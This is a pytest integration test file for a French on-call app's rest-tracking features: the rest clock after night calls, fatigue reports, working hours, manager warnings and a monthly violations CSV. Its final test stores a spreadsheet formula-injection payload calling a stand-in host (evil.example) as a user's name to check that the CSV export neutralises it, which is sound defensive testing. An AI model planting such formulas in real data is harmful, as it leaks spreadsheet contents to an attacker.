"""The Rest tab and the manager's view, through HTTP: working hours, days off, fatigue, declared
rest, the rest clock after a night call, the team's warnings, the month's CSV and the policy.

Team A (Maintenance): Marc manages, Sophie and Samuel are staff. Team B (Informatique): Nina
manages, Bruno is staff. Everyone works Monday to Friday 08:30-12:00, 13:30-17:30 (Paris)."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest

from server.audit.models import Actor
from server.clock import ManualClock, to_db
from server.db import Database
from server.rest.models import PatternForm
from server.rest.pattern import set_pattern
from server.rest.timeline import parse_pattern
from tests.conftest import Client, Company
from tests.integration.intervention_helpers import create, sync_ok
from tests.integration.schedule_helpers import Browsers, page_text, paris, parse

WEEK = PatternForm(
    mon="08:30-12:00, 13:30-17:30",
    tue="08:30-12:00, 13:30-17:30",
    wed="08:30-12:00, 13:30-17:30",
    thu="08:30-12:00, 13:30-17:30",
    fri="08:30-12:00, 13:30-17:30",
)
# Monday's work ends 17:30; the call on Tuesday night is 02:00-03:30 with 30 minutes of travel
# (15 min each way): work time 01:45-03:45, after only 8 h 15 of rest.
CALL_START, CALL_END = paris(2026, 12, 1, 2), paris(2026, 12, 1, 3, 30)


@pytest.fixture
def regular(company: Company, database: Database, clock: ManualClock) -> Company:
    for person in (company.staff_a, company.staff_a2, company.manager_a, company.staff_b):
        set_pattern(
            database, person.id, parse_pattern(WEEK), actor=Actor(label="test"), now=clock.now()
        )
    return company


def night_call(client: Client, clock: ManualClock) -> None:
    clock.set(paris(2026, 12, 1, 3, 40))
    sync_ok(client, create(started_at=CALL_START, ended_at=CALL_END, travel_minutes=30))


def test_the_rest_clock_after_a_night_call(
    regular: Company, browsers: Browsers, clock: ManualClock
) -> None:
    sophie = browsers(regular.staff_a.email)
    night_call(sophie, clock)
    clock.set(paris(2026, 12, 1, 5, 0))
    clock_card = parse(sophie.get("/rest").text).one(id="rest-clock").text
    # 03:45 -> 05:00 is 1 h 15 of the 11 h owed again; work may resume at 14:45.
    assert "1 h 15 sur 11 h" in clock_card
    assert "reprise possible à 14:45" in clock_card
    # Her working hours that day broke the rest again (she worked from 08:30): 11 h are owed
    # from their end at 17:30. Before Wednesday's work, the clock says she is rested.
    clock.set(paris(2026, 12, 1, 23, 0))
    assert "reprise possible à 04:30" in parse(sophie.get("/rest").text).one(id="rest-clock").text
    clock.set(paris(2026, 12, 2, 7, 0))
    assert "Reposé" in parse(sophie.get("/rest").text).one(id="rest-clock").text


def test_working_during_owed_rest_shows_on_the_phone_and_this_months_violations(
    regular: Company, browsers: Browsers, clock: ManualClock
) -> None:
    sophie = browsers(regular.staff_a.email)
    night_call(sophie, clock)
    clock.set(paris(2026, 12, 1, 9, 0))  # her working hours started at 08:30
    page = parse(sophie.get("/rest").text)
    assert "Repos dû jusqu’à 14:45" in page.one(id="rest-clock").text
    month = page.section("violations-title").text
    assert "Repos quotidien" in month and "L3131-1" in month
    assert "08:30" in month
    # Working time: Monday's 7 h 30, then the night call (2 h with travel) and 30 min today.
    hours = page.section("hours-title").text
    assert "2 h 30 sur 10 h" in hours  # today
    assert "10 h sur 48 h" in hours  # this week


def test_declared_rest_removes_regular_work(
    regular: Company, browsers: Browsers, clock: ManualClock, database: Database
) -> None:
    sophie = browsers(regular.staff_a.email)
    night_call(sophie, clock)
    clock.set(paris(2026, 12, 1, 15, 0))
    response = sophie.post_form(
        "/rest/declared", {"started_at": "2026-12-01T03:45", "ended_at": "2026-12-01T14:45"}
    )
    assert response.status_code == 303
    page = parse(sophie.get("/rest").text)
    assert "Aucune règle de repos n’a été enfreinte" in page.section("violations-title").text
    assert database.scalar("SELECT COUNT(*) FROM declared_rests") == 1


@pytest.mark.parametrize(
    ("started_at", "ended_at", "message"),
    [
        ("2026-12-01T10:00", "2026-12-01T18:00", "ne peut pas finir dans le futur"),
        ("2026-12-01T08:00", "2026-12-01T07:00", "doit finir après son début"),
        ("2026-11-01T08:00", "2026-11-01T09:00", "7 derniers jours"),
        ("hier", "2026-12-01T07:00", "Vérifiez le champ « Du »"),
    ],
)
def test_bad_declared_rest_is_refused_and_nothing_written(
    regular: Company,
    browsers: Browsers,
    clock: ManualClock,
    database: Database,
    started_at: str,
    ended_at: str,
    message: str,
) -> None:
    clock.set(paris(2026, 12, 1, 9, 0))
    sophie = browsers(regular.staff_a.email)
    response = sophie.post_form("/rest/declared", {"started_at": started_at, "ended_at": ended_at})
    assert response.status_code == 400
    assert message in parse(response.text).one(role="alert").text
    assert database.scalar("SELECT COUNT(*) FROM declared_rests") == 0


def test_fatigue_in_one_tap(regular: Company, browsers: Browsers, database: Database) -> None:
    sophie = browsers(regular.staff_a.email)
    page = parse(sophie.get("/rest").text)
    buttons = page.one(id="fatigue-card").find_all("button")
    assert [b.attrs["value"] for b in buttons] == [str(n) for n in range(1, 10)]
    assert "Très somnolent, lutte contre le sommeil" in buttons[-1].text
    # The htmx tap answers with the card, thanked.
    response = sophie.post_form(
        "/rest/fatigue", {"score": "7", "context": "today"}, headers={"hx-request": "true"}
    )
    assert response.status_code == 200
    assert "Merci : 7 — Somnolent, sans effort pour rester éveillé" in page_text(response.text)
    assert database.one("SELECT score, context FROM fatigue_reports") == {
        "score": 7,
        "context": "today",
    }


@pytest.mark.parametrize("score", ["0", "10", "-1", "sept", ""])
def test_a_score_outside_1_to_9_is_refused(
    regular: Company, browsers: Browsers, database: Database, score: str
) -> None:
    sophie = browsers(regular.staff_a.email)
    response = sophie.post_form("/rest/fatigue", {"score": score})
    assert response.status_code == 400
    assert "de 1 (très éveillé) à 9" in page_text(response.text)
    assert database.scalar("SELECT COUNT(*) FROM fatigue_reports") == 0


@pytest.mark.parametrize(
    ("monday", "message"),
    [
        ("08:00-12:00, 11:00-17:00", "Deux plages se chevauchent"),
        ("17:00-08:00", "finit avant de commencer"),
        ("8h-12h", "n’est pas une plage"),
        ("25:00-26:00", "n’est pas une plage"),
    ],
)
def test_a_bad_work_pattern_is_refused_and_the_old_one_kept(
    regular: Company, browsers: Browsers, database: Database, monday: str, message: str
) -> None:
    sophie = browsers(regular.staff_a.email)
    before = database.query(
        "SELECT * FROM work_pattern_ranges WHERE user_id = ?", (regular.staff_a.id,)
    )
    response = sophie.post_form("/rest/pattern", {"mon": monday, "tue": "09:00-17:00"})
    assert response.status_code == 400
    text = page_text(response.text)
    assert "Lundi" in text and message in text
    after = database.query(
        "SELECT * FROM work_pattern_ranges WHERE user_id = ?", (regular.staff_a.id,)
    )
    assert after == before


def test_working_hours_are_saved_and_shown(
    company: Company, browsers: Browsers, database: Database
) -> None:
    sophie = browsers(company.staff_a.email)
    response = sophie.post_form("/rest/pattern", {"mon": "7:00-12:00, 13:00-16:00", "sat": ""})
    assert response.status_code == 303
    page = parse(sophie.get("/rest/pattern").text)
    assert page.one(id="f-mon").attrs["value"] == "07:00-12:00, 13:00-16:00"
    assert page.one(id="f-tue").attrs["value"] == ""
    assert (
        database.scalar("SELECT COUNT(*) FROM audit_log WHERE action = 'rest.pattern_changed'") == 1
    )


def test_days_off_and_public_holidays_are_not_work(
    regular: Company, browsers: Browsers, clock: ManualClock
) -> None:
    sophie = browsers(regular.staff_a.email)
    response = sophie.post_form(
        "/rest/absences", {"kind": "leave", "first_day": "2026-12-02", "last_day": "2026-12-04"}
    )
    assert response.status_code == 303
    assert "Congé" in page_text(sophie.get("/rest/pattern").text)
    clock.set(paris(2026, 12, 4, 20, 0))
    # Monday and Tuesday worked (15 h), Wednesday to Friday on leave.
    assert "15 h sur 48 h" in parse(sophie.get("/rest").text).section("hours-title").text
    # Christmas Day is a public holiday: no work counted on Friday 25 December.
    clock.set(paris(2026, 12, 25, 20, 0))
    assert "30 h sur 48 h" in parse(sophie.get("/rest").text).section("hours-title").text
    bad = sophie.post_form(
        "/rest/absences", {"kind": "sick", "first_day": "2026-12-10", "last_day": "2026-12-09"}
    )
    assert bad.status_code == 400
    assert "Le dernier jour précède le premier" in page_text(bad.text)


def test_only_the_person_or_their_manager_changes_their_hours(
    regular: Company, browsers: Browsers, database: Database
) -> None:
    target = f"/rest/pattern?person={regular.staff_a.id}"
    marc = browsers(regular.manager_a.email)
    assert marc.get(target).status_code == 200
    assert marc.post_form(target, {"mon": "09:00-17:00"}).status_code == 303
    for intruder in (regular.manager_b, regular.staff_a2):
        other = browsers(intruder.email)
        assert other.get(target).status_code == 403
        assert other.post_form(target, {"mon": "06:00-22:00"}).status_code == 403
    ranges = database.query(
        "SELECT start_minute, end_minute FROM work_pattern_ranges WHERE user_id = ?",
        (regular.staff_a.id,),
    )
    assert ranges == [{"start_minute": 540, "end_minute": 1020}]


def put_on_call(database: Database, company: Company, user_id: int, start, end) -> None:
    with database.write():
        database.insert(
            "shifts",
            {
                "team_id": company.team_a.id,
                "user_id": user_id,
                "layer": "primary",
                "kind": "override",
                "status": "accepted",
                "starts_at": to_db(start),
                "ends_at": to_db(end),
                "created_at": to_db(start - timedelta(days=20)),
                "updated_at": to_db(start - timedelta(days=20)),
                "published_at": to_db(start - timedelta(days=20)),
            },
        )


def test_the_manager_is_warned_about_who_is_on_call_with_rest_owed_or_tired(
    regular: Company, browsers: Browsers, clock: ManualClock, database: Database
) -> None:
    sophie = browsers(regular.staff_a.email)
    samuel = browsers(regular.staff_a2.email)
    night_call(sophie, clock)
    put_on_call(
        database, regular, regular.staff_a.id, paris(2026, 11, 30, 18), paris(2026, 12, 1, 8)
    )
    put_on_call(
        database, regular, regular.staff_a2.id, paris(2026, 12, 1, 18), paris(2026, 12, 2, 8)
    )
    clock.set(paris(2026, 12, 1, 6, 0))
    samuel.post_form("/rest/fatigue", {"score": "8"})
    marc = browsers(regular.manager_a.email)
    page = parse(marc.get("/rest/team").text)
    warnings = [n.text for n in page.find_all("section", role="alert")]
    assert len(warnings) == 2
    sophie_warning = next(w for w in warnings if "Sophie Staff" in w)
    assert "d’astreinte maintenant" in sophie_warning
    assert "Repos dû jusqu’à" in sophie_warning and "14:45" in sophie_warning
    samuel_warning = next(w for w in warnings if "Samuel Staff" in w)
    assert "prochaine astreinte" in samuel_warning and "Fatigue déclarée 8/9" in samuel_warning
    assert "Trouver un remplaçant" in sophie_warning
    # The action opens the cover request for her shift, on her behalf.
    covers = [a.attrs["href"] for a in page.find_all("a") if a.text == "Trouver un remplaçant"]
    assert all(href.startswith("/swaps/shifts/") for href in covers), covers
    assert marc.get(covers[0]).status_code == 200
    # Staff and a manager of another team may not look.
    assert sophie.get("/rest/team").status_code == 403
    nina = browsers(regular.manager_b.email)
    assert nina.get(f"/rest/team?team={regular.team_a.id}").status_code == 403


def test_the_months_violations_as_csv(
    regular: Company, browsers: Browsers, clock: ManualClock
) -> None:
    sophie = browsers(regular.staff_a.email)
    night_call(sophie, clock)
    clock.set(paris(2026, 12, 2, 12, 0))
    marc = browsers(regular.manager_a.email)
    page = parse(marc.get("/rest/team?month=2026-12").text).section("month-title").text
    assert "Sophie Staff" in page and "Repos quotidien" in page
    response = marc.get(f"/rest/team.csv?team={regular.team_a.id}&month=2026-12")
    assert response.status_code == 200
    assert response.headers.get_list("content-type") == ["text/csv; charset=utf-8"]
    rows = list(csv.reader(io.StringIO(response.text.lstrip("\ufeff")), delimiter=";"))
    assert rows[0] == [
        "person",
        "email",
        "rule",
        "at",
        "hours",
        "limit",
        "article",
        "explanation",
    ]
    assert [
        rows[1][0],
        rows[1][2],
        rows[1][3],
        rows[1][6],
    ] == ["Sophie Staff", "daily_rest", "2026-12-01T08:30:00+01:00", "L3131-1"]
    # November had none.
    november = marc.get(f"/rest/team.csv?team={regular.team_a.id}&month=2026-11")
    assert len(list(csv.reader(io.StringIO(november.text.lstrip("\ufeff"))))) == 1
    assert marc.get("/rest/team?month=décembre").status_code == 400


def test_a_manager_changes_the_policy_with_a_reason(
    regular: Company, browsers: Browsers, database: Database, clock: ManualClock
) -> None:
    marc = browsers(regular.manager_a.email)
    form = parse(marc.get("/rest/policy").text)
    values = {
        node.attrs["name"]: node.attrs.get("value", "")
        for node in form.find_all("input")
        if node.attrs.get("name") and node.attrs.get("type") != "checkbox"
    }
    values.pop("_csrf_token", None)
    values["daily_rest_hours"] = "12"
    values["max_daily_work_hours"] = "9,5"  # a decimal comma, as people type it
    without_reason = marc.post_form("/rest/policy", {**values, "reason": " "})
    assert without_reason.status_code == 400
    assert (
        "Dites pourquoi" in page_text(without_reason.text)
        or "raison" in page_text(without_reason.text).lower()
    )
    assert '"daily_rest_hours":12' not in database.scalar(
        "SELECT policy FROM teams WHERE id = ?", (regular.team_a.id,)
    )
    saved = marc.post_form(
        "/rest/policy", {**values, "reason": "Accord d’entreprise du 3 mars 2026"}
    )
    assert saved.status_code == 303
    page = page_text(marc.get(saved.headers["location"]).text)
    assert "Accord d’entreprise du 3 mars 2026" in page
    assert "Repos quotidien, heures consécutives : 11 → 12" in page.replace(".0", "")
    assert "Durée quotidienne maximale, heures : 10 → 9.5" in page.replace("10.0", "10")
    # The rest clock now counts 12 hours.
    sophie = browsers(regular.staff_a.email)
    night_call(sophie, clock)
    clock.set(paris(2026, 12, 1, 5, 0))
    assert "1 h 15 sur 12 h" in parse(sophie.get("/rest").text).one(id="rest-clock").text
    assert sophie.get("/rest/policy").status_code == 403
    bad = marc.post_form("/rest/policy", {**values, "max_daily_work_hours": "-3", "reason": "x"})
    assert bad.status_code == 400
    before = database.scalar("SELECT policy FROM teams WHERE id = ?", (regular.team_a.id,))
    # A daily rest longer than a day could never be met: refused, naming the field.
    too_long = marc.post_form("/rest/policy", {**values, "daily_rest_hours": "30", "reason": "x"})
    assert too_long.status_code == 400
    assert "Repos quotidien" in parse(too_long.text).one(class_="error").text
    assert database.scalar("SELECT policy FROM teams WHERE id = ?", (regular.team_a.id,)) == before
    assert sophie.get("/rest").status_code == 200


def test_today_shows_the_rest_clock_and_asks_how_alert_one_is(
    regular: Company, browsers: Browsers, clock: ManualClock
) -> None:
    sophie = browsers(regular.staff_a.email)
    clock.set(paris(2026, 11, 30, 20, 0))
    today = parse(sophie.get("/").text)
    assert today.find(id="rest-clock") is None  # rested: nothing to say
    assert today.one(id="fatigue-card")
    night_call(sophie, clock)
    clock.set(paris(2026, 12, 1, 5, 0))
    today = parse(sophie.get("/").text)
    assert "reprise possible à 14:45" in today.one(id="rest-clock").text
    # The slot refreshes itself when the outbox syncs, and every minute.
    slot = today.one(id="rest-clock-slot")
    assert slot.attrs["hx-get"] == "/rest/clock?where=today"
    assert "astreinte:outbox-changed from:body" in slot.attrs["hx-trigger"]
    refreshed = parse(sophie.get("/rest/clock?where=today").text)
    assert "reprise possible à 14:45" in refreshed.one(id="rest-clock").text
    # The clock moves on the next minute, though nothing was written.
    clock.set(paris(2026, 12, 1, 5, 1))
    assert "1 h 16 sur 11 h" in parse(sophie.get("/").text).one(id="rest-clock").text
    answer = sophie.post_form(
        "/rest/fatigue", {"score": "6", "context": "today"}, headers={"hx-request": "true"}
    )
    assert "Merci : 6" in page_text(answer.text)
    assert parse(sophie.get("/").text).find(id="fatigue-card") is None
    clock.set(paris(2026, 12, 1, 13, 2))  # eight hours later, Today asks again
    assert parse(sophie.get("/").text).find(id="fatigue-card") is not None


def notifications(database: Database, user_id: int, kind: str) -> list[dict]:
    return database.query(
        "SELECT * FROM notifications WHERE user_id = ? AND kind = ?", (user_id, kind)
    )


def test_fatigue_is_asked_at_a_shifts_start_and_after_a_night_call_once(
    regular: Company, browsers: Browsers, clock: ManualClock, database: Database, app
) -> None:
    from server.rest.prompts import send_fatigue_prompts

    put_on_call(
        database, regular, regular.staff_a2.id, paris(2026, 12, 1, 18), paris(2026, 12, 2, 8)
    )
    assert send_fatigue_prompts(database, paris(2026, 12, 1, 17, 59)) == 0
    assert send_fatigue_prompts(database, paris(2026, 12, 1, 18, 5)) == 1
    assert send_fatigue_prompts(database, paris(2026, 12, 1, 18, 6)) == 0
    (asked,) = notifications(database, regular.staff_a2.id, "fatigue_shift_start")
    assert asked["url"] == "/rest?ask=shift_start"
    # The push opens the Rest tab, asking the question of the occasion.
    samuel = browsers(regular.staff_a2.email)
    page = parse(samuel.get(asked["url"]).text)
    assert "Votre astreinte a commencé" in page.one(id="fatigue-card").text
    assert page.one("input", name="context").attrs["value"] == "shift_start"

    # A call ending at 03:30 asks once it has synced; a day call does not.
    sophie = browsers(regular.staff_a.email)
    night_call(sophie, clock)
    clock.set(paris(2026, 12, 1, 12))
    sync_ok(
        sophie,
        create(started_at=paris(2026, 12, 1, 10), ended_at=paris(2026, 12, 1, 11)),
    )
    assert send_fatigue_prompts(database, paris(2026, 12, 1, 12)) == 1
    assert send_fatigue_prompts(database, paris(2026, 12, 1, 12, 1)) == 0
    (night,) = notifications(database, regular.staff_a.id, "fatigue_after_night")
    assert night["url"] == "/rest?ask=night_intervention"


def test_no_question_after_a_night_call_when_fatigue_was_already_told(
    regular: Company, browsers: Browsers, clock: ManualClock, database: Database
) -> None:
    from server.rest.prompts import send_fatigue_prompts

    sophie = browsers(regular.staff_a.email)
    night_call(sophie, clock)
    sophie.post_form("/rest/fatigue", {"score": "5", "context": "night_intervention"})
    assert send_fatigue_prompts(database, paris(2026, 12, 1, 3, 45)) == 0
    assert notifications(database, regular.staff_a.id, "fatigue_after_night") == []


def test_todays_fatigue_form_posts_without_javascript_from_each_browser(
    regular: Company, browsers: Browsers, database: Database
) -> None:
    """Today is kept rendered per person, but each browser's form carries its own token."""
    phone = browsers(regular.staff_a.email)
    laptop = browsers(regular.staff_a.email)
    for browser in (phone, phone, laptop):  # the second view of the phone is the kept page
        form = parse(browser.get("/").text).one(id="fatigue-card").one("form")
        fields = {
            node.attrs["name"]: node.attrs.get("value", "")
            for node in form.find_all("input")
            if node.attrs.get("type") == "hidden"
        }
        assert fields["_csrf_token"] == browser.cookies["astreinte_csrf"]
    # A plain form post, as a browser without JavaScript sends it: no header, the field only.
    answer = laptop.post(
        form.attrs["action"],
        data={**fields, "score": "4"},
        follow_redirects=False,
    )
    assert answer.status_code in (200, 303), answer.text
    assert (
        database.scalar(
            "SELECT score FROM fatigue_reports WHERE user_id = ?", (regular.staff_a.id,)
        )
        == 4
    )


def test_the_months_violations_csv_never_runs_a_name_as_a_formula(
    regular: Company, browsers: Browsers, clock: ManualClock, database: Database
) -> None:
    """A name is typed by a person: opened in a spreadsheet, it shows as typed, never runs."""
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Sophie")'
    with database.write():
        database.execute("UPDATE users SET name = ? WHERE id = ?", (formula, regular.staff_a.id))
    night_call(browsers(regular.staff_a.email), clock)
    clock.set(paris(2026, 12, 2, 12, 0))
    marc = browsers(regular.manager_a.email)
    response = marc.get(f"/rest/team.csv?team={regular.team_a.id}&month=2026-12")
    rows = list(csv.reader(io.StringIO(response.text.lstrip("\ufeff")), delimiter=";"))
    assert rows[1][0] == "'" + formula
    assert rows[1][2] == "daily_rest"
